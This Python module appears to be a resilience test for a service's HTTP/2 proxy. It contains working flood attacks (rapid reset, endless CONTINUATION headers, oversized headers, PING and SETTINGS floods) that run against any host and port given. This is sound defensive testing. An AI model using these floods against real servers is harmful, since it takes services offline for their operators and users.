"""Attacks on an HTTP/2 endpoint: what a proxy in front of quantd has to stop.

    python -m reliability.http2_attacks KIND HOST:PORT SECONDS [--tls CA] [--from ADDRESS]

KIND: rapid_reset (streams that are opened and reset at once), headers (one request whose headers
never end, in CONTINUATION frames), big_headers (requests with many large headers), pings,
settings. Prints what was sent as JSON.
"""

from __future__ import annotations

import argparse
import contextlib
import json
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from dataclasses import asdict, dataclass

from hyperframe.frame import ContinuationFrame, PingFrame, RstStreamFrame, SettingsFrame

from .http2_frames import connect, headers_frame, request_headers

CANCEL = 8


def rapid_reset() -> Iterator[bytes]:
    block = request_headers()
    for first in range(1, 2**31 - 2000, 1000):
        burst = bytearray()
        for stream in range(first, first + 1000, 2):
            burst += headers_frame(stream, block)
            burst += RstStreamFrame(stream, error_code=CANCEL).serialize()
        yield bytes(burst)


def headers() -> Iterator[bytes]:
    yield headers_frame(1, request_headers(), ends=False)
    # A literal header without indexing: 5 bytes of name, 16,000 of value.
    name, size = b"x-abc", 16000
    length = struct.pack("B", 127) + bytes([(size - 127) & 127 | 128, (size - 127) >> 7])
    entry = b"\x00" + bytes([len(name)]) + name + length + b"a" * size
    frame = bytes(ContinuationFrame(1, entry).serialize())
    while True:
        yield frame


def big_headers() -> Iterator[bytes]:
    block = request_headers(extra=[(f"x-{n}", "a" * 3500) for n in range(4)])
    for stream in range(1, 2**31 - 2, 2):
        yield headers_frame(stream, block)


def pings() -> Iterator[bytes]:
    burst = bytes(PingFrame(0, b"12345678").serialize()) * 500
    while True:
        yield burst


def settings() -> Iterator[bytes]:
    frame = SettingsFrame(0, settings={SettingsFrame.HEADER_TABLE_SIZE: 4096})
    burst = bytes(frame.serialize()) * 500
    while True:
        yield burst


ATTACKS: dict[str, Callable[[], Iterator[bytes]]] = {
    "rapid_reset": rapid_reset,
    "headers": headers,
    "big_headers": big_headers,
    "pings": pings,
    "settings": settings,
}


@dataclass
class Sent:
    """What an attacker got through, and how often the door was shut."""

    connections: int = 0
    refused: int = 0
    bytes: int = 0


def _send(connection: socket.socket, what: Iterator[bytes], end: float, sent: Sent) -> None:
    """Never waits for answers; what comes is thrown away. Ends with the connection or the time."""
    connection.setblocking(False)
    for burst in what:
        rest = memoryview(burst)
        while rest:
            if time.monotonic() > end:
                return
            with contextlib.suppress(ssl.SSLWantReadError, BlockingIOError):
                if not connection.recv(1 << 16):
                    return
            try:
                count = connection.send(rest)
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError, BlockingIOError):
                time.sleep(0.001)
                continue
            sent.bytes += count
            rest = rest[count:]


def attack(kind: str, address: str, seconds: float, ca: str | None, source: str) -> Sent:
    """One connection after the other until the time is over."""
    end = time.monotonic() + seconds
    sent = Sent()
    while time.monotonic() < end:
        try:
            connection = connect(address, ca, source)
        except OSError:
            sent.refused += 1
            time.sleep(0.01)
            continue
        sent.connections += 1
        with contextlib.suppress(OSError), connection:
            _send(connection, ATTACKS[kind](), end, sent)
    return sent


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("kind", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("seconds", type=float)
    parser.add_argument("--tls", help="certificate authority of the endpoint")
    parser.add_argument("--from", dest="source", default="127.0.0.2", help="local address")
    given = parser.parse_args()
    sent = attack(given.kind, given.address, given.seconds, given.tls, given.source)
    print(json.dumps(asdict(sent)))


if __name__ == "__main__":
    main()
